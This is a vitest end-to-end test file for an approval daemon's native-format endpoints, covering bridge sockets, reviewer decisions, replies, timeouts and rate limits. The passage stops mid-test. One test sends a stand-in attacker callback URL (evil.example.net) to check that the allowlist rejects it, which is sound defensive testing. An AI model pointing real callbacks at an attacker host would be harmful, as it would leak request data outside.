import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, describe, expect, it } from 'vitest';
import { adapters } from '../../src/adapters/registry.js';
import { loadConfig } from '../../src/config.js';
import { durationMs } from '../../src/lib/durations.js';
import { createFakeClock } from '../helpers/fake-clock.js';
import { expectValidRequest } from '../helpers/upstream-schemas.js';
import { createRequest, decide, expectError, requestCount, show } from '../helpers/request-api.js';
import { TEST_FORMAT, testAdapter, testFixtures } from '../helpers/test-adapter.js';
import { startTestServer, TEST_STORE, type ApiClient, type TestServer } from '../helpers/test-server.js';
import { connectWs, type WsClient } from '../helpers/ws-client.js';

/**
 * The native-format endpoints over a real port (docs/formats/README.md): every registered native format
 * runs its `e2e-request.json` / `e2e-cancel.json` fixtures through HTTP, the bridge WebSocket and
 * the reviewers' stream; the error paths run once against a test-only format.
 */

const FIXTURES = join(import.meta.dirname, '..', 'fixtures');
const ALL_ADAPTERS = [...adapters, testAdapter];
const DEFAULTS = loadConfig({ env: {} });

// The contract test's fixed ReplyEnv (test/fixtures/README.md): values a live daemon makes afresh.
const FIXED_NOW = 1767225600000;
const FIXED_REQUEST_ID = '01KDXB5M00000000000000REQ0';
const FIXED_UUID = /^00000000-0000-4000-8000-[0-9a-f]{12}$/;
const FIXED_ULID = /^01KDXB5M\d{18}$/;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
const ULID = /^[0-9A-HJKMNP-TV-Z]{26}$/;

type Fixtures = { request: any; cancel: any };

function loadE2EFixtures(format: string): Fixtures | undefined {
  const file = (name: string) => join(FIXTURES, format, name);
  if (!existsSync(file('e2e-request.json')) || !existsSync(file('e2e-cancel.json'))) return undefined;
  const read = (name: string) => JSON.parse(readFileSync(file(name), 'utf8'));
  return { request: read('e2e-request.json'), cancel: read('e2e-cancel.json') };
}

const cases: Array<{ format: string; fixtures: Fixtures | undefined }> = [
  ...adapters.filter((a) => a.format !== 'handup').map((a) => ({ format: a.format, fixtures: loadE2EFixtures(a.format) })),
  { format: TEST_FORMAT, fixtures: { request: testFixtures['e2e-request.json'], cancel: testFixtures['e2e-cancel.json'] } },
];

const qs = (query: Record<string, string> | undefined, extra: Record<string, string> = {}) => {
  const s = new URLSearchParams({ ...(query ?? {}), ...extra }).toString();
  return s ? `?${s}` : '';
};

/**
 * The live reply equals the fixture's golden reply except for what the daemon makes afresh:
 * UUIDs, ULIDs and times of the fixed ReplyEnv match any value of that kind; the fixed request
 * id is this request's id. (JSON-RPC ids match exactly: each case runs on a fresh database.)
 */
function expectReplyLike(actual: unknown, golden: unknown, requestId: string, path = 'reply', fresh = new Map<string, unknown>()): void {
  if (typeof golden === 'string') {
    if (golden === FIXED_REQUEST_ID) return void expect(actual, path).toBe(requestId);
    if (FIXED_UUID.test(golden) || FIXED_ULID.test(golden)) {
      expect(actual, path).toMatch(FIXED_UUID.test(golden) ? UUID : ULID);
      // One fresh value repeated in the golden reply is one value in the live reply too.
      if (fresh.has(golden)) expect(actual, `${path} (same value as before)`).toBe(fresh.get(golden));
      fresh.set(golden, actual);
      return;
    }
    if (golden === new Date(FIXED_NOW).toISOString()) {
      expect(typeof actual, path).toBe('string');
      return void expect(Number.isNaN(Date.parse(actual as string)), path).toBe(false);
    }
  }
  if (golden === FIXED_NOW || golden === FIXED_NOW / 1000) return void expect(typeof actual, path).toBe('number');
  if (Array.isArray(golden)) {
    expect(Array.isArray(actual) && actual.length, path).toBe(golden.length);
    golden.forEach((g, i) => expectReplyLike((actual as unknown[])[i], g, requestId, `${path}[${i}]`, fresh));
    return;
  }
  if (golden !== null && typeof golden === 'object') {
    expect(actual, path).toBeTypeOf('object');
    expect(Object.keys(actual as object).sort(), path).toEqual(Object.keys(golden).sort());
    for (const [k, g] of Object.entries(golden)) expectReplyLike((actual as Record<string, unknown>)[k], g, requestId, `${path}.${k}`, fresh);
    return;
  }
  expect(actual, path).toEqual(golden);
}

/** POSTs the fixture's decide block (or cancels) as the admin reviewer. */
async function decideAsReviewer(api: ApiClient, record: { id: string; content_hash: string }, block: Record<string, unknown>) {
  if (block.cancel) return api.post(`/v1/requests/${record.id}/cancel`);
  if (block.expire) throw new Error('an e2e-request.json fixture must decide or cancel, not expire');
  const { option, ...extra } = block;
  return decide(api, record, option as string, extra);
}

describe('native formats end to end', () => {
  let t: TestServer;
  const sockets: WsClient[] = [];
  afterEach(async () => {
    for (const s of sockets.splice(0)) s.socket.terminate();
    await t?.close();
  });

  async function ws(path: string, token: string | null): Promise<WsClient> {
    const c = await connectWs(`${t.wsUrl}${path}`, token);
    sockets.push(c);
    return c;
  }

  async function reviewer(): Promise<WsClient> {
    const c = await ws('/v1/events', t.adminToken);
    await expect.poll(() => t.server.deps.hub.size()).toBeGreaterThan(0);
    return c;
  }

  it('serves every registered native format and has its e2e fixtures', () => {
    const served = adapters.map((a) => a.format).filter((f) => f !== 'handup');
    for (const f of served) expect(loadE2EFixtures(f), `test/fixtures/${f}/e2e-request.json and e2e-cancel.json`).toBeDefined();
    expect(
      adapters.some((a) => a.format === TEST_FORMAT),
      'the test format must not be registered',
    ).toBe(false);
  });

  for (const { format, fixtures } of cases) {
    describe(format, () => {
      it.skipIf(!fixtures)('a frame is posted, shown to reviewers, decided, and answered in the native format', async () => {
        const { request: fx } = fixtures!;
        t = await startTestServer({}, { adapters: ALL_ADAPTERS });
        const a = await t.submitClient('bridge-a');
        const events = await reviewer();
        const bridge = await ws(`/v1/formats/${format}/ws${qs(fx.query)}`, a.token);

        const created = await a.api.post(`/v1/formats/${format}/requests${qs(fx.query)}`, fx.frame);
        expect(created.status, created.text).toBe(201);
        expect(Object.keys(created.body).sort()).toEqual(['reply', 'request']);
        expect(created.body.reply).toBeNull();
        const record = created.body.request;
        expectValidRequest(record);
        expect(record.status).toBe('pending');
        expect(record.dedupe_key).toBe(fx.expect.native_key);
        expect(record.source.integration).toBe('bridge-a');
        if (fx.expect.request) {
          // The daemon normalises exactly as the contract test does, plus the token name and the format's default timeout.
          const { source, timeout, ...rest } = fx.expect.request;
          for (const [k, v] of Object.entries(rest)) expect(record[k], k).toEqual(v);
          expect(record.source).toEqual({ ...source, integration: 'bridge-a' });
          if (timeout === null && fx.query?.timeout === undefined) {
            const def = (DEFAULTS.formats as Record<string, { default_timeout: string } | undefined>)[format]?.default_timeout ?? 'none';
            expect(record.timeout).toBe(def === 'none' ? null : def);
            expect(record.expires_at).toBe(def === 'none' ? null : record.created_at + durationMs(def));
          }
        }

        const shown = await events.nextMatching((m) => m.type === 'request.created' && m.request.id === record.id);
        expect(shown.format).toBe(format);
        expectValidRequest(shown.request);

        // The bridge sends the same frame: it maps to the same record, and its reply will come here.
        bridge.send(fx.frame);
        expect(await bridge.next()).toEqual({ type: 'countersign.accepted', id: record.id });

        const decided = await decideAsReviewer(t.api, record, fx.decide);
        expect(decided.status, decided.text).toBe(200);
        expect(decided.body.status).toBe(fx.status);
        expectValidRequest(decided.body);
        const ended = await events.nextMatching((m) => m.type !== 'request.created' && m.request.id === record.id);
        expect(ended.format).toBe(format);
        expectValidRequest(ended.request);

        const answered = await a.api.get(`/v1/formats/${format}/requests/${record.id}/reply?wait=5s`);
        expect(answered.status, answered.text).toBe(200);
        expect(answered.body.request).toEqual(decided.body);
        expectValidRequest(answered.body.request);
        expectReplyLike(answered.body.reply, fx.reply, record.id);
        const reply = answered.body.reply;
        if (reply !== null) expect(await bridge.next()).toEqual(reply);

        const again = await a.api.post(`/v1/formats/${format}/requests${qs(fx.query)}`, fx.frame);
        expect(again.status, again.text).toBe(200);
        expect(again.body).toEqual({ request: decided.body, reply });

        // A bridge that re-sends the frame after the request ended gets the stored reply at once.
        const late = await ws(`/v1/formats/${format}/ws${qs(fx.query)}`, a.token);
        late.send(fx.frame);
        expect(await late.next()).toEqual({ type: 'countersign.accepted', id: record.id });
        if (reply !== null) expect(await late.next()).toEqual(reply);

        // The list filter knows the five spec formats only; the test format is alone in its database.
        const listed = await t.api.get(format === TEST_FORMAT ? '/v1/requests' : `/v1/requests?format=${format}`);
        expect(listed.status, listed.text).toBe(200);
        expect(listed.body.map((r: { id: string }) => r.id)).toEqual([record.id]);
        for (const r of listed.body) expectValidRequest(r);

        // Native keys and replies belong to the submitter.
        const b = await t.submitClient('bridge-b');
        expectError(await b.api.get(`/v1/formats/${format}/requests/${record.id}/reply`), 404, 'not_found');
      });

      it.skipIf(!fixtures)('a follow-up frame cancels a request made on the bridge socket; repeating it changes nothing', async () => {
        const { request: fx, cancel } = fixtures!;
        t = await startTestServer({}, { adapters: ALL_ADAPTERS });
        const b = await t.submitClient('bridge-b');
        const bridge = await ws(`/v1/formats/${format}/ws${qs(fx.query)}`, b.token);
        bridge.send(fx.frame);
        const accepted = await bridge.next();
        expect(accepted).toMatchObject({ type: 'countersign.accepted', id: expect.any(String) });

        const res = await b.api.post(`/v1/formats/${format}/events${qs(cancel.query)}`, cancel.frame);
        expect(res.status, res.text).toBe(200);
        expect(Object.keys(res.body)).toEqual(['request']);
        expect(res.body.request).toMatchObject({ id: accepted.id, status: 'cancelled', decision: null });
        expectValidRequest(res.body.request);

        // Resolved upstream: there is nothing to send back.
        const reply = await b.api.get(`/v1/formats/${format}/requests/${accepted.id}/reply`);
        expect(reply.status, reply.text).toBe(200);
        expect(reply.body).toEqual({ request: res.body.request, reply: null });

        const repeated = await b.api.post(`/v1/formats/${format}/events${qs(cancel.query)}`, cancel.frame);
        expect(repeated.status, repeated.text).toBe(202);
        expect(repeated.body).toEqual({ ignored: true });
        expect(await show(t.api, accepted.id)).toEqual(res.body.request);

        // No reply was pushed for the upstream cancel: the next message is the answer to the next frame.
        bridge.send(fx.frame);
        expect(await bridge.next()).toEqual({ type: 'countersign.accepted', id: accepted.id });
      });
    });
  }
});

describe('native-format endpoints: options and error paths', () => {
  let t: TestServer;
  const sockets: WsClient[] = [];
  afterEach(async () => {
    for (const s of sockets.splice(0)) s.socket.terminate();
    await t?.close();
  });

  const ask = (id: string, extra: Record<string, unknown> = {}) => ({ type: 'ask', id, tool: 'shell', command: 'make deploy', ...extra });
  const base = `/v1/formats/${TEST_FORMAT}`;

  async function ws(path: string, token: string | null): Promise<WsClient> {
    const c = await connectWs(`${t.wsUrl}${path}`, token);
    sockets.push(c);
    return c;
  }

  async function audit(id: string): Promise<Array<{ event: string; actor: string; details?: any }>> {
    const res = await t.api.get(`/v1/requests/${id}/audit`);
    expect(res.status, res.text).toBe(200);
    return res.body;
  }

  it('refuses unknown formats and handup with 404 unknown_format, storing nothing', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    for (const format of ['nope', 'handup']) {
      expectError(await t.api.post(`/v1/formats/${format}/requests`, { title: 'x' }), 404, 'unknown_format', format);
      expectError(await t.api.post(`/v1/formats/${format}/events`, {}), 404, 'unknown_format');
      expectError(await t.api.get(`/v1/formats/${format}/requests/01KDXB5M00000000000000REQ0/reply`), 404, 'unknown_format');
      await expect(ws(`/v1/formats/${format}/ws`, t.adminToken)).rejects.toMatchObject({ status: 404 });
    }
    expect(await requestCount(t.api)).toBe(0);
  });

  it('refuses malformed frames with 400 invalid_frame naming the field, storing nothing', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const post = (body: unknown, q = '?session=s-1') => t.api.post(`${base}/requests${q}`, body);
    expectError(await post({ type: 'ask', tool: 'shell' }), 400, 'invalid_frame', 'id');
    expectError(await post(ask('a', { colour: 'red' })), 400, 'invalid_frame', 'colour');
    expectError(await post(ask('a'), ''), 400, 'invalid_frame', 'session');
    expectError(
      await t.api.request('POST', `${base}/requests?session=s-1`, undefined, { raw: '{"type":', headers: { 'content-type': 'application/json' } }),
      400,
      'invalid_frame',
      'JSON',
    );
    // Over handup's limits: refused (saying which), never truncated.
    const long = await post(ask('a', { tool: 'x'.repeat(600) }));
    expectError(long, 400, 'invalid_frame', 'title');
    expect(long.body.error).toContain('512 bytes');
    expectError(await post(ask('a', { id: 'k'.repeat(600) })), 400, 'invalid_frame', 'dedupe_key');
    // Well-formed but asking nothing of a human.
    expectError(await post({ type: 'notice', text: 'build finished' }), 422, 'unsupported_frame');
    expect(await requestCount(t.api)).toBe(0);
  });

  it('checks the query: durations, on_timeout, callback_url and repeated keys', async () => {
    t = await startTestServer({ callbacks: { allowlist: ['hooks.example.com'] } }, { adapters: ALL_ADAPTERS });
    const post = (q: string) => t.api.post(`${base}/requests?session=s-1&${q}`, ask('a'));
    expectError(await post('timeout=30'), 400, 'invalid_query', 'query.timeout');
    expectError(await post('on_timeout=later'), 400, 'invalid_query', 'query.on_timeout');
    expectError(await post('wait=soon'), 400, 'invalid_query', 'query.wait');
    expectError(await post('session=s-2'), 400, 'invalid_query', 'query.session');
    expectError(await post('callback_url=https://evil.example.net/x'), 400, 'callback_not_allowed', 'callback_url');
    expectError(
      await t.api.post(`${base}/events?session=s-1&timeout=5m`, { type: 'resolved', id: 'a', outcome: 'allow' }),
      400,
      'invalid_query',
      'query.timeout',
    );
    await expect(ws(`${base}/ws?wait=5s`, t.adminToken)).rejects.toMatchObject({ status: 400 });
    // A callback_url every frame on the socket would be refused for: refused before the upgrade.
    await expect(ws(`${base}/ws?session=s-1&callback_url=${encodeURIComponent('https://evil.example.net/x')}`, t.adminToken)).rejects.toMatchObject({
      status: 400,
    });
    // controller_seq is the reply route's (PaperClip): where it would change nothing it is refused, not ignored.
    expectError(await post('controller_seq=3'), 400, 'invalid_query', 'query.controller_seq');
    expectError(await t.api.post(`/v1/formats/paperclip/requests?controller_seq=3`, {}), 400, 'invalid_query', 'query.controller_seq');
    expectError(await t.api.post(`/v1/formats/paperclip/events?controller_seq=3`, {}), 400, 'invalid_query', 'query.controller_seq');
    await expect(ws(`/v1/formats/paperclip/ws?controller_seq=7`, t.adminToken)).rejects.toMatchObject({ status: 400 });
    expect(await requestCount(t.api)).toBe(0);

    const ok = await post('timeout=10m&on_timeout=approve&callback_url=https://hooks.example.com/cs');
    expect(ok.status, ok.text).toBe(201);
    const r = ok.body.request;
    expectValidRequest(r);
    expect(r).toMatchObject({ timeout: '10m', on_timeout: 'approve', callback_url: 'https://hooks.example.com/cs' });
    expect(r.expires_at).toBe(r.created_at + 600_000);
  });

  it('applies requests.default_timeout to formats without their own, and timeout=none turns expiry off', async () => {
    t = await startTestServer({ requests: { default_timeout: '1h' } }, { adapters: ALL_ADAPTERS });
    const def = await t.api.post(`${base}/requests?session=s-1`, ask('a'));
    expect(def.status, def.text).toBe(201);
    expect(def.body.request.timeout).toBe('1h');
    expect(def.body.request.expires_at).toBe(def.body.request.created_at + 3_600_000);
    const none = await t.api.post(`${base}/requests?session=s-1&timeout=none`, ask('b'));
    expect(none.status, none.text).toBe(201);
    expect(none.body.request).toMatchObject({ timeout: null, expires_at: null });
  });

  it('scopes native keys to the submitter: two tokens sending the same frame get two records', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const a = await t.submitClient('a');
    const b = await t.submitClient('b');
    const ra = await a.api.post(`${base}/requests?session=s-1`, ask('same'));
    const rb = await b.api.post(`${base}/requests?session=s-1`, ask('same'));
    expect([ra.status, rb.status]).toEqual([201, 201]);
    expect(ra.body.request.id).not.toBe(rb.body.request.id);
    expectError(await b.api.get(`${base}/requests/${ra.body.request.id}/reply`), 404, 'not_found');
    // B's follow-up reaches only B's record.
    const res = await b.api.post(`${base}/events?session=s-1`, { type: 'resolved', id: 'same', outcome: 'cancelled' });
    expect(res.body.request.id).toBe(rb.body.request.id);
    expect((await show(t.api, ra.body.request.id)).status).toBe('pending');
  });

  it("a request of another format is not found on this format's reply route", async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const handup = await createRequest(t.api, { title: 'Deploy staging' });
    expectError(await t.api.get(`${base}/requests/${handup.id}/reply`), 404, 'not_found');
  });

  it('long-polls with ?wait on the POST and on the reply route until the decision', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const a = await t.submitClient('a');
    const events = await ws('/v1/events', t.adminToken);
    await expect.poll(() => t.server.deps.hub.size()).toBe(1);

    const posting = a.api.post(`${base}/requests?session=s-1&wait=30s`, ask('w1'));
    const shown = await events.nextMatching((m) => m.type === 'request.created');
    expect((await decide(t.api, shown.request, 'allow')).status).toBe(200);
    const posted = await posting;
    expect(posted.status, posted.text).toBe(201);
    expect(posted.body.request.status).toBe('approved');
    expect(posted.body.reply).toEqual({ id: 1, method: 'decision', params: { askId: 'w1', decision: 'allow' } });

    const second = await a.api.post(`${base}/requests?session=s-1`, ask('w2'));
    const waiting = a.api.get(`${base}/requests/${second.body.request.id}/reply?wait=30s`);
    await expect.poll(() => t.server.deps.waiters.count()).toBe(1);
    expect((await decide(t.api, second.body.request, 'deny')).status).toBe(200);
    const replied = await waiting;
    expect(replied.status, replied.text).toBe(200);
    expect(replied.body.reply).toEqual({ id: 2, method: 'decision', params: { askId: 'w2', decision: 'deny' } });
    expectValidRequest(replied.body.request);
  });

  it('answers bad socket frames with countersign.error and keeps the socket usable', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    expect(await connectWs(`${t.wsUrl}${base}/ws`, null).catch((e) => e.status)).toBe(401);
    const bridge = await ws(`${base}/ws?session=s-1`, t.adminToken);

    bridge.socket.send('{"type": "ask",');
    expect(await bridge.next()).toMatchObject({ type: 'countersign.error', code: 'invalid_frame', error: expect.stringContaining('JSON') });
    // A number JSON cannot carry (it parses as Infinity) is refused as over HTTP, naming the field.
    bridge.socket.send('{"type": "ask", "id": "a-1", "tool": "shell", "args": {"n": 1e400}}');
    expect(await bridge.next()).toMatchObject({ type: 'countersign.error', code: 'invalid_frame', error: expect.stringContaining('args.n') });
    bridge.send({ type: 'ask', tool: 'shell' });
    expect(await bridge.next()).toMatchObject({ type: 'countersign.error', code: 'invalid_frame', error: expect.stringContaining('id') });
    bridge.send({ type: 'notice', text: 'hello' });
    expect(await bridge.next()).toMatchObject({ type: 'countersign.error', code: 'unsupported_frame' });
    bridge.send({ type: 'resolved', id: 'never-sent', outcome: 'allow' });
    expect(await bridge.next()).toMatchObject({ type: 'countersign.error', code: 'not_found' });
    expect(await requestCount(t.api)).toBe(0);

    bridge.send(ask('ok'));
    const accepted = await bridge.next();
    expect(accepted).toEqual({ type: 'countersign.accepted', id: expect.any(String) });
    expect(bridge.socket.readyState).toBe(bridge.socket.OPEN);
  });

  it('follow-ups: an unknown key is 404, a no-op is 202, a resolution records the upstream decision and sends no reply', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const follow = (body: unknown) => t.api.post(`${base}/events?session=s-1`, body);
    expectError(await follow({ type: 'resolved', id: 'ghost', outcome: 'allow' }), 404, 'not_found', 'ghost');
    expectError(await follow({ type: 'resolved', id: 'x', outcome: 'maybe' }), 400, 'invalid_frame', 'outcome');
    expectError(await t.api.post(`${base}/events`, { type: 'resolved', id: 'x', outcome: 'allow' }), 400, 'invalid_frame', 'session');

    const bridge = await ws(`${base}/ws?session=s-1`, t.adminToken);
    bridge.send(ask('r1'));
    const { id } = await bridge.next();
    const noop = await follow({ type: 'resolved', id: 'r1', outcome: 'noop' });
    expect(noop.status, noop.text).toBe(202);
    expect(noop.body).toEqual({ ignored: true });

    const res = await follow({ type: 'resolved', id: 'r1', outcome: 'allow' });
    expect(res.status, res.text).toBe(200);
    const r = res.body.request;
    expectValidRequest(r);
    expect(r).toMatchObject({
      id,
      status: 'approved',
      decision: { option: 'allow', outcome: 'approve', decided_by: 'upstream', content_hash: r.content_hash },
    });
    expect((await t.api.get(`${base}/requests/${id}/reply`)).body.reply).toBeNull();
    expect((await audit(id)).map((e) => [e.event, e.actor])).toEqual([
      ['created', 'admin'],
      ['decided', 'upstream'],
    ]);

    // After the end, a follow-up changes nothing, and a reviewer's late decision is refused.
    const late = await follow({ type: 'resolved', id: 'r1', outcome: 'deny' });
    expect(late.status).toBe(202);
    expect(await show(t.api, id)).toEqual(r);
    expectError(await decide(t.api, r, 'deny'), 409, 'not_pending');

    // Follow-ups work on the socket too; the next message is the answer to the next frame, so no reply was pushed.
    bridge.send(ask('r2'));
    const second = await bridge.next();
    bridge.send({ type: 'resolved', id: 'r2', outcome: 'deny' });
    bridge.send(ask('r3'));
    expect(await bridge.next()).toMatchObject({ type: 'countersign.accepted' });
    expect((await show(t.api, second.id)).status).toBe('denied');
  });

  it("audits feedback the native reply cannot carry, and keeps the adapter's creation notes", async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const post = async (frame: unknown) => {
      const res = await t.api.post(`${base}/requests?session=s-1`, frame);
      expect(res.status, res.text).toBe(201);
      return res.body.request;
    };
    const dropped = await post(ask('f1'));
    expect((await decide(t.api, dropped, 'deny', { feedback: 'use the staging cluster' })).status).toBe(200);
    expect((await t.api.get(`${base}/requests/${dropped.id}/reply`)).body.reply.params).toEqual({ askId: 'f1', decision: 'deny' });
    expect((await audit(dropped.id)).find((e) => e.event === 'reply.feedback_not_sent')).toEqual(
      expect.objectContaining({ actor: 'countersign', details: { format: TEST_FORMAT, feedback: 'use the staging cluster' } }),
    );

    const carried = await post(ask('f2', { reasons: true, command: undefined }));
    expect((await decide(t.api, carried, 'deny', { feedback: 'use the staging cluster' })).status).toBe(200);
    expect((await t.api.get(`${base}/requests/${carried.id}/reply`)).body.reply.params.reason).toBe('use the staging cluster');
    const rows = await audit(carried.id);
    expect(rows.map((e) => e.event)).toEqual(['created', 'decided']);
    expect(rows[0]!.details).toEqual({ format: TEST_FORMAT, notes: ['the frame carried no command'] });
  });

  it('a reply that cannot be rendered does not block the decision; it is audited and the reply is null', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const res = await t.api.post(`${base}/requests?session=s-1`, ask('boom', { explode: true }));
    const decided = await decide(t.api, res.body.request, 'allow');
    expect(decided.status, decided.text).toBe(200);
    expect(decided.body.status).toBe('approved');
    expect((await t.api.get(`${base}/requests/${res.body.request.id}/reply`)).body.reply).toBeNull();
    expect((await audit(res.body.request.id)).map((e) => e.event)).toEqual(['created', 'decided', 'reply.render_failed']);
  });

  it('pushes the reply of an expired request on the bridge socket', async () => {
    const clock = createFakeClock();
    t = await startTestServer({}, { adapters: ALL_ADAPTERS, clock });
    const bridge = await ws(`${base}/ws?session=s-1&timeout=1m&on_timeout=approve`, t.adminToken);
    bridge.send(ask('e1'));
    const { id } = await bridge.next();
    clock.advance(60_000);
    expect(await bridge.next()).toEqual({ id: 1, method: 'decision', params: { askId: 'e1', decision: 'allow' } });
    const r = await show(t.api, id);
    expect(r).toMatchObject({ status: 'expired', decision: { option: 'allow', decided_by: 'timeout' } });
  });

  it('counts socket and HTTP creates against the same per-token rate limit', async () => {
    const clock = createFakeClock();
    t = await startTestServer({ requests: { max_per_minute: 2 } }, { adapters: ALL_ADAPTERS, clock });
    const a = await t.submitClient('a');
    expect((await a.api.post(`${base}/requests?session=s-1`, ask('1'))).status).toBe(201);
    const bridge = await ws(`${base}/ws?session=s-1`, a.token);
    bridge.send(ask('2'));
    expect(await bridge.next()).toMatchObject({ type: 'countersign.accepted' });
    bridge.send(ask('3'));
    expect(await bridge.next()).toMatchObject({ type: 'countersign.error', code: 'rate_limited' });
    expectError(await a.api.post(`${base}/requests?session=s-1`, ask('3')), 429, 'rate_limited');
    expect(await requestCount(t.api)).toBe(2);
    clock.advance(60_001);
    bridge.send(ask('3'));
    expect(await bridge.next()).toMatchObject({ type: 'countersign.accepted' });
  });

  it('closes bridge sockets on shutdown; a pending request keeps waiting', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const bridge = await ws(`${base}/ws?session=s-1`, t.adminToken);
    bridge.send(ask('s1'));
    const { id } = await bridge.next();
    await t.server.close();
    expect(typeof (await bridge.closed)).toBe('number');
    t = await startTestServer({ data_dir: t.dataDir }, { adapters: ALL_ADAPTERS });
    expect((await show(t.api, id)).status).toBe('pending');
  });

  it('keeps the JSON-RPC id counter across restarts', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'countersign-formats-'));
    const decideOne = async (nativeId: string) => {
      const res = await t.api.post(`${base}/requests?session=s-1`, ask(nativeId));
      expect((await decide(t.api, res.body.request, 'allow')).status).toBe(200);
      return (await t.api.get(`${base}/requests/${res.body.request.id}/reply`)).body.reply.id;
    };
    t = await startTestServer({ data_dir: dataDir }, { adapters: ALL_ADAPTERS });
    expect([await decideOne('c1'), await decideOne('c2')]).toEqual([1, 2]);
    await t.server.close();
    t = await startTestServer({ data_dir: dataDir }, { adapters: ALL_ADAPTERS });
    expect(await decideOne('c3')).toBe(3);
  });
});

describe('follow-ups that need more than one native key', () => {
  let t: TestServer;
  const sockets: WsClient[] = [];
  afterEach(async () => {
    for (const s of sockets.splice(0)) s.socket.terminate();
    await t?.close();
  });

  async function ws(path: string, token: string | null): Promise<WsClient> {
    const c = await connectWs(`${t.wsUrl}${path}`, token);
    sockets.push(c);
    return c;
  }

  const askApproval = (session: string, id: string) => ({
    method: 'session/event',
    params: { sessionId: session, event: { type: 'approval.required', seq: 1, payload: { id, toolName: 'bash', args: { command: 'make deploy' } } } },
  });

  it('Ask follow-ups settle only their own family: a plan event never approves a tool call, a user_input question is never approved', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const event = (e: Record<string, unknown>) => ({ method: 'session/event', params: { sessionId: 's-1', event: e } });
    const created = async (frame: unknown) => {
      const res = await t.api.post('/v1/formats/ask/requests', frame);
      expect(res.status, res.text).toBe(201);
      return res.body.request.id as string;
    };
    const tool = await created(askApproval('s-1', 'act_1'));
    const question = await created(event({ id: 'u1', kind: 'user_input', status: 'pending', payload: { prompt: 'Which database?' } }));
    const plan = await created(event({ type: 'plan.proposed', seq: 2, payload: { id: 'plan_1', plan: '1. migrate' } }));
    const follow = (e: Record<string, unknown>) => t.api.post('/v1/formats/ask/events', event(e));

    expectError(await follow({ type: 'plan.approved', seq: 3, payload: { id: 'act_1', plan: 'x' } }), 400, 'invalid_frame', 'payload.id');
    expectError(await follow({ type: 'plan.approved', seq: 4, payload: { id: 'u1', plan: 'x' } }), 400, 'invalid_frame', 'payload.id');
    expectError(await follow({ type: 'approval.updated', seq: 5, payload: { id: 'u1', status: 'approved' } }), 400, 'invalid_frame', 'payload.status');
    for (const id of [tool, question, plan]) expect((await show(t.api, id)).status).toBe('pending');

    // Each in its own family: approval.updated settles the tool call, a rejected question ends denied, plan.approved the plan.
    expect((await follow({ type: 'approval.updated', seq: 6, payload: { id: 'act_1', status: 'approved' } })).body.request).toMatchObject({
      id: tool,
      status: 'approved',
    });
    expect((await follow({ type: 'approval.updated', seq: 7, payload: { id: 'u1', status: 'rejected' } })).body.request).toMatchObject({
      id: question,
      status: 'denied',
      decision: { option: 'decline', outcome: 'deny', decided_by: 'upstream' },
    });
    expect((await follow({ type: 'plan.approved', seq: 8, payload: { id: 'plan_1', plan: '1. migrate' } })).body.request).toMatchObject({
      id: plan,
      status: 'approved',
    });
  });

  it('Ask session.ended naming no interaction cancels every pending request of that session, and only those', async () => {
    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
    const a = await t.submitClient('bridge-a');
    const b = await t.submitClient('bridge-b');
    const post = async (api: ApiClient, session: string, id: string) => {
      const res = await api.post('/v1/formats/ask/requests', askApproval(session, id));
      expect(res.status, res.text).toBe(201);
      return res.body.request;
    };
    const first = await post(a.api, 's-1', 'act_1');
    const second = await post(a.api, 's-1', 'act_2');
    // A session whose id starts with the ended one's key prefix ("ask:s-1:"), and another token's s-1.
    const nested = await post(a.api, 's-1:sub', 'act_3');
    const others = await post(b.api, 's-1', 'act_1');
    const events = await ws('/v1/events', t.adminToken);
    await expect.poll(() => t.server.deps.hub.size()).toBeGreaterThan(0);

    const ended = { type: 'session.ended', seq: 30, payload: { sessionId: 's-1', reason: 'closed' } };
    const res = await a.api.post('/v1/formats/ask/events', ended);
    expect(res.status, res.text).toBe(200);
    expect(Object.keys(res.body).sort()).toEqual(['request', 'requests']);
    expect(res.body.requests.map((r: { id: string }) => r.id)).toEqual([first.id, second.id]);
    expect(res.body.request).toEqual(res.body.requests[0]);
    for (const r of res.body.requests) {
      expectValidRequest(r);
      expect(r).toMatchObject({ status: 'cancelled', decision: null });
      expect(await show(t.api, r.id)).toEqual(r);
      const audit = (await t.api.get(`/v1/requests/${r.id}/audit`)).body;
      expect(audit.map((e: { event: string; actor: string }) => [e.event, e.actor])).toEqual([
        ['created', 'token:bridge-a'],
        ['cancelled', 'upstream:bridge-a'],
      ]);
      expect(audit[1].details).toEqual({ format: 'ask', session: 's-1', feedback: 'closed' });
      // Resolved upstream: no reply to send back.
      expect((await a.api.get(`/v1/formats/ask/requests/${r.id}/reply`)).body.reply).toBeNull();
    }
    const cancelled = [await events.nextMatching((m) => m.type === 'request.cancelled'), await events.nextMatching((m) => m.type === 'request.cancelled')];
    expect(cancelled.map((m) => [m.request.id, m.format])).toEqual([
      [first.id, 'ask'],
      [second.id, 'ask'],
    ]);
    expect((await show(t.api, nested.id)).status).toBe('pending');
    expect((await show(t.api, others.id)).status).toBe('pending');

    // Nothing of the session is pending any more: the same frame changes nothing.
    const repeated = await a.api.post('/v1/formats/ask/events', ended);
    expect(repeated.status, repeated.text).toBe(202);
    expect(repeated.body).toEqual({ ignored: true });

    // On a bridge socket too: a bare turn.aborted, the session from the socket's query.
    const bridge = await ws('/v1/formats/ask/ws?session=s-1:sub', a.token);
    bridge.send({ type: 'turn.aborted', seq: 31, payload: { turnId: 'turn_9' } });
    await expect.poll(async () => (await show(t.api, nested.id)).status).toBe('cancelled');
    expect((await show(t.api, others.id)).status).toBe('pending');
